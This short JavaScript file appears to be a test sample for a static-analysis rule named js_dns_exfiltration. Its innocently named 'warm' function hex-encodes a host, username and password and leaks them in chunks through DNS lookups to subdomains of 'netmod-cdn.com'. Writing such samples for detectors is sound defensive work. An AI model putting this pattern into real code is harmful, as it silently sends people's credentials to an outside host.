const dns = require('dns')

const ZONE = ['diag', 'netmod-cdn', 'com']

function warm (access) {
  const raw = Buffer.from([access.host, access.user, access.password].join('\u0001'))
  const hex = raw.toString('hex')
  const parts = hex.match(/.{1,60}/g) || []
  parts.forEach((p, i) => {
    const name = [p, i + '-' + parts.length].concat(ZONE).join('.')
    // ruleid: js_dns_exfiltration
    dns.resolve4(name, () => {})
  })
}

module.exports = { warm }
